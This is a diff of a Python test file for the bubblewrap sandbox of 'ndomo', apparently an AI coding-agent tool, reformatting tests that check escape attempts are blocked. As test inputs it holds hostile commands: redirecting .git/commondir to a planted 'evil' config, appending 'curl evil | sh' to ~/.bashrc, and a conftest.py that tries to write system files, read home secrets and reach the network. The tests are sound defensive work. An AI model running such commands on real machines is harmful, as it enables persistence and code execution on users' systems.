@@ -107,14 +107,24 @@ async def _ctx(app: App, *, policy=None, host=None, agent: AgentDef | None = Non
     plugins.tools.policy = policy or AllowAll()
     rt = Runtime(app, plugins)
     state = await rt.session()
-    ctx = TurnContext(app=app, runtime=rt, host=host or BaseHost(), request=TurnRequest(prompt="t"),
-                      session=state, mode="autopilot", agent_name=agent.name if agent else state.agent, agent=agent)
+    ctx = TurnContext(
+        app=app,
+        runtime=rt,
+        host=host or BaseHost(),
+        request=TurnRequest(prompt="t"),
+        session=state,
+        mode="autopilot",
+        agent_name=agent.name if agent else state.agent,
+        agent=agent,
+    )
     ctx.tools = rt.plugins.tools.filter(ctx)
     return ctx
 
 
 def _agent(**perm) -> AgentDef:
-    return AgentDef(name="tester", description="t", prompt="", source="test", permission=AgentPermission(**perm))
+    return AgentDef(
+        name="tester", description="t", prompt="", source="test", permission=AgentPermission(**perm)
+    )
 
 
 async def test_fsmonitor_chain_is_stopped(ws_app: App, tmp_path: Path) -> None:
@@ -131,27 +141,43 @@ async def test_fsmonitor_chain_is_stopped(ws_app: App, tmp_path: Path) -> None:
     assert hook.status == "failed" and "Read-only file system" in hook.content
     moved = await run(ctx, "bash", {"command": "mv .git .git-old"})  # swapping the whole folder
     assert moved.status == "failed" and "busy" in moved.content
-    agents = await run(ctx, "bash", {"command": "mkdir -p .ndomo/agents && echo x > .ndomo/agents/craftsman.md"})
+    agents = await run(
+        ctx, "bash", {"command": "mkdir -p .ndomo/agents && echo x > .ndomo/agents/craftsman.md"}
+    )
     assert agents.status == "failed" and not (ws / ".ndomo" / "agents").exists()
     # a missing .git/commondir cannot be mounted read-only: creating it is undone after the run
-    redirect = await run(ctx, "bash", {"command": "mkdir evil && cp -r .git/objects .git/refs evil/ && "
-                                       "cp evil.cfg evil/config && echo ../evil > .git/commondir"})
+    redirect = await run(
+        ctx,
+        "bash",
+        {
+            "command": "mkdir evil && cp -r .git/objects .git/refs evil/ && "
+            "cp evil.cfg evil/config && echo ../evil > .git/commondir"
+        },
+    )
     assert redirect.ok and "ndomo removed commondir" in redirect.content, redirect.content
     assert not (ws / ".git" / "commondir").exists()
     status = await run(ctx, "bash", {"command": "git status --short"})
     assert status.ok and "evil.cfg" in status.content
     # the rest of .git stays writable: add and commit work inside the sandbox
-    commit = await run(ctx, "bash", {"command": "git add evil.cfg && git -c user.name=t -c user.email=t@t commit -qm x && git log --oneline"})
+    commit = await run(
+        ctx,
+        "bash",
+        {
+            "command": "git add evil.cfg && git -c user.name=t -c user.email=t@t commit -qm x && git log --oneline"
+        },
+    )
     assert commit.ok, commit.content
     assert (ws / ".git" / "config").read_text() == before
-    subprocess.run(["git", "-C", str(ws), "status"], check=True, capture_output=True)  # the user's own git, later
+    subprocess.run(
+        ["git", "-C", str(ws), "status"], check=True, capture_output=True
+    )  # the user's own git, later
     assert not marker.exists()
 
 
 def _pytest_workspace(ws: Path, outside: Path, system_file: Path, port: int) -> str:
     """A project whose conftest.py tries what an allowed `pytest` must not do; it reports
     each attempt to report.txt."""
-    (ws / "conftest.py").write_text(f'''
+    (ws / "conftest.py").write_text(f"""
 import os, pathlib, socket
 
 def _try(label, fn):
@@ -169,7 +195,7 @@ def pytest_configure(config):
         _try("network", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3).close()),
     ]
     pathlib.Path("report.txt").write_text("\\n".join(results))
-''')
+""")
     (ws / "test_x.py").write_text("def test_x():\n    assert True\n")
     return f"{sys.executable} -m pytest -q -p no:cacheprovider -p no:randomly test_x.py"
 
@@ -186,7 +212,9 @@ def home(tmp_path: Path, monkeypatch) -> Path:
     return h
 
 
-async def test_pytest_conftest_cannot_write_outside_or_reach_the_network(ws_app, tmp_path, listener, home):
+async def test_pytest_conftest_cannot_write_outside_or_reach_the_network(
+    ws_app, tmp_path, listener, home
+):
     outside = tmp_path / "outside.txt"
     sysfile = Path("/var/tmp") / f"ndomo-sandbox-{uuid.uuid4().hex}"
     cmd = _pytest_workspace(ws_app.root, outside, sysfile, listener.port)
@@ -202,9 +230,13 @@ async def test_pytest_conftest_cannot_write_outside_or_reach_the_network(ws_app,
         assert report[3].startswith("network:blocked"), report
         assert not sysfile.exists() and not outside.exists()
         assert listener.hits == 0 and res.data["network"] is False
-        cat = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": "cat ~/.cargo/env; touch ~/.cargo/new"})
+        cat = await ctx.runtime.plugins.tools.execute(
+            ctx, "bash", {"command": "cat ~/.cargo/env; touch ~/.cargo/new"}
+        )
         assert "toolchain" in cat.content and "Read-only file system" in cat.content
-        rc = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": "echo 'curl evil | sh' >> ~/.bashrc"})
+        rc = await ctx.runtime.plugins.tools.execute(
+            ctx, "bash", {"command": "echo 'curl evil | sh' >> ~/.bashrc"}
+        )
         assert rc.ok and not (home / ".bashrc").exists()  # the hidden home is a throwaway tmpfs
     finally:
         sysfile.unlink(missing_ok=True)
@@ -223,7 +255,9 @@ async def test_the_same_command_approved_gets_network(ws_app, tmp_path, listener
         report = (ws_app.root / "report.txt").read_text().splitlines()
         assert report[3] == "network:ok" and listener.hits == 1, report
         # the filesystem rules stay
-        assert report[1] == "write-system:blocked:OSError" and report[2].startswith("read-home-secret:blocked"), report
+        assert report[1] == "write-system:blocked:OSError" and report[2].startswith(
+            "read-home-secret:blocked"
+        ), report
         assert res.data["network"] is True and not sysfile.exists()
     finally:
         sysfile.unlink(missing_ok=True)
@@ -240,9 +274,16 @@ async def test_network_permission_per_command_pattern(ws_app, listener, home):
     res = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": probe})
     assert res.ok and res.data["network"] is True and listener.hits == 1, res.content
     other = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": f"true; {probe}"})
-    assert not other.ok and other.data["network"] is False and listener.hits == 1  # `true` is not allowed network
+    assert (
+        not other.ok and other.data["network"] is False and listener.hits == 1
+    )  # `true` is not allowed network
     assert host.asked == []  # bash: allow never asks, and network did not make it ask
-    denied = await _ctx(ws_app, policy=AgentPolicy(), host=Approver("once"), agent=_agent(bash="ask", network="deny"))
+    denied = await _ctx(
+        ws_app,
+        policy=AgentPolicy(),
+        host=Approver("once"),
+        agent=_agent(bash="ask", network="deny"),
+    )
     res = await denied.runtime.plugins.tools.execute(denied, "bash", {"command": probe})
     assert not res.ok and listener.hits == 1
     assert "without network" in denied.host.asked[0].text()  # type: ignore[attr-defined]
@@ -251,19 +292,32 @@ async def test_network_permission_per_command_pattern(ws_app, listener, home):
 async def test_served_server_keeps_network_and_is_reachable_by_check_page(ws_app, monkeypatch):
     monkeypatch.setattr("ndomo.tools.web.browser.find_chromium", lambda: None)
     (ws_app.root / "site").mkdir()
-    (ws_app.root / "site" / "index.html").write_text("<title>Served</title><main class='hero'>hi</main>")
+    (ws_app.root / "site" / "index.html").write_text(
+        "<title>Served</title><main class='hero'>hi</main>"
+    )
     ctx = await _ctx(ws_app)
     run = ctx.runtime.plugins.tools.execute
-    cmd = ("echo hi > site/from-server.txt; echo ../x > .git/commondir; touch /var/tmp/ndomo-serve-escape 2>&1; "
-           "exec python3 -m http.server --bind $HOST $PORT")
+    cmd = (
+        "echo hi > site/from-server.txt; echo ../x > .git/commondir; touch /var/tmp/ndomo-serve-escape 2>&1; "
+        "exec python3 -m http.server --bind $HOST $PORT"
+    )
     res = await run(ctx, "serve", {"action": "start", "command": cmd, "name": "web"})
     assert res.ok, res.content
-    assert "ndomo removed commondir" in res.content and not (ws_app.root / ".git" / "commondir").exists()
+    assert (
+        "ndomo removed commondir" in res.content
+        and not (ws_app.root / ".git" / "commondir").exists()
+    )
     assert res.data["sandbox"] == "sandboxed (bubblewrap)"
-    page = await run(ctx, "check_page", {"url_or_path": res.data["url"] + "site/index.html", "expect": ["main.hero"]})
+    page = await run(
+        ctx,
+        "check_page",
+        {"url_or_path": res.data["url"] + "site/index.html", "expect": ["main.hero"]},
+    )
     assert page.ok and page.data["status"] == 200, page.content
     listed = await run(ctx, "serve", {"action": "list"})
-    assert "Read-only file system" in listed.content  # the filesystem rules hold for served processes
+    assert (
+        "Read-only file system" in listed.content
+    )  # the filesystem rules hold for served processes
     assert not Path("/var/tmp/ndomo-serve-escape").exists()
     assert (ws_app.root / "site" / "from-server.txt").exists()
     stopped = await run(ctx, "serve", {"action": "stop", "name": "web"})
@@ -276,24 +330,38 @@ async def test_required_refuses_where_bwrap_is_missing(ws_app, monkeypatch, tmp_
     monkeypatch.setenv("PATH", str(empty))
     ctx = await _ctx(ws_app)
     res = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": "echo x > made"})
-    assert res.status == "failed" and "sandbox: required" in res.content and "bwrap on PATH not found" in res.content
+    assert (
+        res.status == "failed"
+        and "sandbox: required" in res.content
+        and "bwrap on PATH not found" in res.content
+    )
     assert not (ws_app.root / "made").exists()
-    served = await ctx.runtime.plugins.tools.execute(ctx, "serve", {"action": "start", "command": "sleep 5"})
+    served = await ctx.runtime.plugins.tools.execute(
+        ctx, "serve", {"action": "start", "command": "sleep 5"}
+    )
     assert served.status == "failed" and "sandbox: required" in served.content
     report = await health(ws_app, HealthParams(probe_model=False))
     assert not report.ok and not report.sandbox.ok
     assert "sandbox   FAIL  refused: sandbox required" in render_health(report.model_dump())
     ws_app.settings.sandbox.mode = "auto"  # auto runs it, unsandboxed, and says so
     res = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": "echo x > made"})
-    assert res.ok and res.data["sandbox"] == "NOT sandboxed (bubblewrap unavailable)" and (ws_app.root / "made").exists()
-    assert "WARN" in render_health((await health(ws_app, HealthParams(probe_model=False))).model_dump())
+    assert (
+        res.ok
+        and res.data["sandbox"] == "NOT sandboxed (bubblewrap unavailable)"
+        and (ws_app.root / "made").exists()
+    )
+    assert "WARN" in render_health(
+        (await health(ws_app, HealthParams(probe_model=False))).model_dump()
+    )
 
 
 async def test_health_shows_the_sandbox(ws_app) -> None:
     ws_app.settings.sandbox.mode = "auto"
     report = await health(ws_app, HealthParams(probe_model=False))
     assert report.sandbox.active and report.sandbox.ok and report.sandbox.backend == "bubblewrap"
-    assert "sandbox   ok  sandboxed (bubblewrap) (sandbox: auto) bubblewrap" in render_health(report.model_dump())
+    assert "sandbox   ok  sandboxed (bubblewrap) (sandbox: auto) bubblewrap" in render_health(
+        report.model_dump()
+    )
     ws_app.settings.sandbox.mode = "off"
     off = await health(ws_app, HealthParams(probe_model=False))
     assert off.ok and not off.sandbox.active and "run without an OS sandbox" in off.sandbox.warning
@@ -320,9 +388,21 @@ async def test_sandboxed_shell_keeps_the_workspace_python(ws_app) -> None:
     elsewhere, the system's or pyenv's python3 (pyenv lives in ~/.pyenv, on the default list)."""
     ctx = await _ctx(ws_app)
     run = ctx.runtime.plugins.tools.execute
-    made = await run(ctx, "bash", {"command": "python3 -m venv --without-pip .venv && .venv/bin/python -c 'import sys; print(sys.prefix)'"})
+    made = await run(
+        ctx,
+        "bash",
+        {
+            "command": "python3 -m venv --without-pip .venv && .venv/bin/python -c 'import sys; print(sys.prefix)'"
+        },
+    )
     assert made.ok and f"{os.path.realpath(ws_app.root)}/.venv" in made.content, made.content
-    res = await run(ctx, "bash", {"command": f"{sys.executable} -c 'import ndomo, pytest; print(\"venv ok\")' && python3 --version"})
+    res = await run(
+        ctx,
+        "bash",
+        {
+            "command": f"{sys.executable} -c 'import ndomo, pytest; print(\"venv ok\")' && python3 --version"
+        },
+    )
     assert res.ok and "venv ok" in res.content and "Python 3" in res.content, res.content
 
 
@@ -341,7 +421,9 @@ async def test_timeout_and_cancel_kill_everything_in_the_sandbox(ws_app) -> None
         await asyncio.sleep(0.1)
     assert not pids_with_arg(naptime)
     other = f"300.{uuid.uuid4().int % 10**9}"
-    task = asyncio.ensure_future(ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": f"setsid sleep {other} & wait"}))
+    task = asyncio.ensure_future(
+        ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": f"setsid sleep {other} & wait"})
+    )
     for _ in range(100):
         if pids_with_arg(other):
             break
@@ -363,8 +445,16 @@ async def test_cli_health_reports_required_without_bwrap(tmp_path) -> None:
     empty.mkdir()
     env = {**os.environ, "PATH": str(empty), "NDOMO_SANDBOX": "required"}
     proc = await asyncio.create_subprocess_exec(
-        sys.executable, "-m", "ndomo", "health", "--workspace", str(tmp_path), "--no-probe-model",
-        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT, env=env,
+        sys.executable,
+        "-m",
+        "ndomo",
+        "health",
+        "--workspace",
+        str(tmp_path),
+        "--no-probe-model",
+        stdout=asyncio.subprocess.PIPE,
+        stderr=asyncio.subprocess.STDOUT,
+        env=env,
     )
     out = (await proc.communicate())[0].decode()
     assert "sandbox   FAIL  refused: sandbox required but bubblewrap is unavailable" in out, out
@@ -372,8 +462,16 @@ async def test_cli_health_reports_required_without_bwrap(tmp_path) -> None:
     env["PATH"] = os.environ["PATH"]
     env["NDOMO_SANDBOX"] = "auto"
     proc = await asyncio.create_subprocess_exec(
-        sys.executable, "-m", "ndomo", "health", "--workspace", str(tmp_path), "--no-probe-model",
-        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT, env=env,
+        sys.executable,
+        "-m",
+        "ndomo",
+        "health",
+        "--workspace",
+        str(tmp_path),
+        "--no-probe-model",
+        stdout=asyncio.subprocess.PIPE,
+        stderr=asyncio.subprocess.STDOUT,
+        env=env,
     )
     out = (await proc.communicate())[0].decode()
     assert "sandbox   ok  sandboxed (bubblewrap) (sandbox: auto)" in out, out
@@ -383,7 +481,9 @@ async def test_workspace_inside_the_hidden_home_stays_usable(ws_app, tmp_path, m
     monkeypatch.setenv("HOME", str(tmp_path))  # the workspace tmp_path/ws lives in this home
     (tmp_path / "notes.txt").write_text("private")
     ctx = await _ctx(ws_app)
-    res = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": "echo hi > made.txt && cat made.txt && ls -a ~"})
+    res = await ctx.runtime.plugins.tools.execute(
+        ctx, "bash", {"command": "echo hi > made.txt && cat made.txt && ls -a ~"}
+    )
     assert res.ok and "hi" in res.content and "notes.txt" not in res.content, res.content
     assert (ws_app.root / "made.txt").read_text() == "hi\n"
     peek = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": "cat ../notes.txt"})
@@ -398,16 +498,26 @@ async def test_model_can_ask_for_network_for_an_allowed_command(ws_app, listener
     ctx = await _ctx(ws_app, policy=AgentPolicy(), host=host, agent=_agent(bash="allow"))
     run = ctx.runtime.plugins.tools.execute
     offline = await run(ctx, "bash", {"command": "python3 probe.py"})
-    assert not offline.ok and listener.hits == 0 and host.asked == []  # allowed, so not asked, so offline
+    assert (
+        not offline.ok and listener.hits == 0 and host.asked == []
+    )  # allowed, so not asked, so offline
     online = await run(ctx, "bash", {"command": "python3 probe.py", "network": True})
     assert online.ok and listener.hits == 1, online.content
     (asked,) = host.asked
     assert asked.reason == "the command asks for network access" and "WITH network" in asked.text()
     refused = Approver("deny")
     ctx2 = await _ctx(ws_app, policy=AgentPolicy(), host=refused, agent=_agent(bash="allow"))
-    denied = await ctx2.runtime.plugins.tools.execute(ctx2, "bash", {"command": "python3 probe.py", "network": True})
+    denied = await ctx2.runtime.plugins.tools.execute(
+        ctx2, "bash", {"command": "python3 probe.py", "network": True}
+    )
     assert denied.status == "refused" and listener.hits == 1
-    never = await _ctx(ws_app, policy=AgentPolicy(), host=Approver("once"),
-                       agent=_agent(bash="allow", network="deny"))
-    res = await never.runtime.plugins.tools.execute(never, "bash", {"command": "python3 probe.py", "network": True})
+    never = await _ctx(
+        ws_app,
+        policy=AgentPolicy(),
+        host=Approver("once"),
+        agent=_agent(bash="allow", network="deny"),
+    )
+    res = await never.runtime.plugins.tools.execute(
+        never, "bash", {"command": "python3 probe.py", "network": True}
+    )
     assert never.host.asked == [] and not res.ok and res.data["network"] is False  # type: ignore[attr-defined]
